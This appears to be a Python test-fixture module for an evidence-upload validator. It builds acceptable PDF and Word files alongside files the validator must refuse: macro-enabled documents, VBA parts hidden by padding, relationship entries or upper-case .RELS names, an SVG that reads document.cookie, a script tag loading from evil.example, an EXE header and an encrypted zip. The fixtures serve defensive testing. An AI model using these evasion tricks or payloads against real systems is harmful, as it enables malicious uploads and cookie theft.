"""Files an officer might attach as evidence, made here, in memory: a real
PDF and Word document, and the ones that must be refused (a program named
as a PDF, a macro-enabled Word document, an archive with a password, the
EICAR test virus, built from pieces in actionplans/private_clamd.py)."""

import io
import zipfile

from docx import Document

from actionplans.private_clamd import eicar


def pdf() -> bytes:
    """A one-page PDF saying 'Minutes'."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length 41 >>\nstream\nBT /F1 24 Tf 72 720 Td (Minutes) Tj ET\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def docx(text: str = "The Hate Crime Group agreed the actions.") -> bytes:
    document = Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docm() -> bytes:
    """A Word document with macros: a vbaProject part, and the content type
    Word gives a .docm."""
    source = zipfile.ZipFile(io.BytesIO(docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "[Content_Types].xml":
                data = data.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
            archive.writestr(member, data)
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macros")
    return out.getvalue()


def _docx_with(parts: dict[str, bytes], change=lambda name, data: data) -> bytes:
    """docx() with each part passed through `change`, and `parts` added."""
    source = zipfile.ZipFile(io.BytesIO(docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            archive.writestr(member, change(member.filename, source.read(member)))
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def hidden_vba_content_type() -> bytes:
    """A .docx whose [Content_Types].xml declares VBA for a part not called
    vbaProject.bin, after more than a megabyte of comment."""

    def declare(name, data):
        if name != "[Content_Types].xml":
            return data
        padding = b"<!--" + b"x" * (1024 * 1024 + 10) + b"-->"
        override = b'<Override PartName="/word/payload.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        return data.replace(b"</Types>", padding + override + b"</Types>")

    return _docx_with({"word/payload.bin": b"\xd0\xcf\x11\xe0macros"}, declare)


def hidden_vba_relationship() -> bytes:
    """A .docx whose document names a part of its own as its VBA project by
    a relationship alone."""

    def relate(name, data):
        if name != "word/_rels/document.xml.rels":
            return data
        relationship = (
            b'<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            b'Target="notes.bin"/>'
        )
        return data.replace(b"</Relationships>", relationship + b"</Relationships>")

    return _docx_with({"word/notes.bin": b"\xd0\xcf\x11\xe0macros"}, relate)


def _with_vba_relationship_in_capitals(package: bytes, relationships: str, folder: str) -> bytes:
    """`package` with its part `relationships` renamed to end in .RELS (part
    names compare without regard to case, so Office still reads it) and
    naming a part of its own in `folder` as its VBA project."""
    source = zipfile.ZipFile(io.BytesIO(package))
    relationship = (
        b'<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="payload.dat"/>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            data, name = source.read(member), member.filename
            if name == relationships:
                data, name = data.replace(b"</Relationships>", relationship + b"</Relationships>"), name[:-5] + ".RELS"
            archive.writestr(name, data)
        archive.writestr(f"{folder}/payload.dat", b"\xd0\xcf\x11\xe0macros")
    return out.getvalue()


def vba_relationship_in_capitals() -> bytes:
    """A .docx whose relationships part is word/_rels/document.xml.RELS,
    naming a VBA project."""
    return _with_vba_relationship_in_capitals(docx(), "word/_rels/document.xml.rels", "word")


def workbook_with_vba_relationship_in_capitals() -> bytes:
    """The same trick in an .xlsx: xl/_rels/workbook.xml.RELS."""
    from openpyxl import Workbook

    out = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["Recommendation", "Action"])
    workbook.save(out)
    return _with_vba_relationship_in_capitals(out.getvalue(), "xl/_rels/workbook.xml.rels", "xl")


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>\n'


def text_with_script() -> bytes:
    """Notes whose words are fine until a script far into them."""
    return b"Minutes of the meeting.\n" * 4000 + b"<SCRIPT src=//evil.example/x.js></SCRIPT>\n"


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><p>Minutes</p></body></html>"


def program() -> bytes:
    """The start of a Windows program (an .exe): 'MZ', then its header."""
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 112
        + b"This program cannot be run in DOS mode."
    )


def encrypted_zip() -> bytes:
    """A zip whose member says it is encrypted (bit 0 of its flags), as
    one with a password does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("secret.docx")
        archive.writestr(info, b"x" * 40)
    data = bytearray(out.getvalue())
    # The flag bits in the local header (offset 6) and the central directory entry.
    data[6] |= 1
    central = data.find(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


__all__ = ["docm", "docx", "eicar", "encrypted_zip", "pdf", "program"]
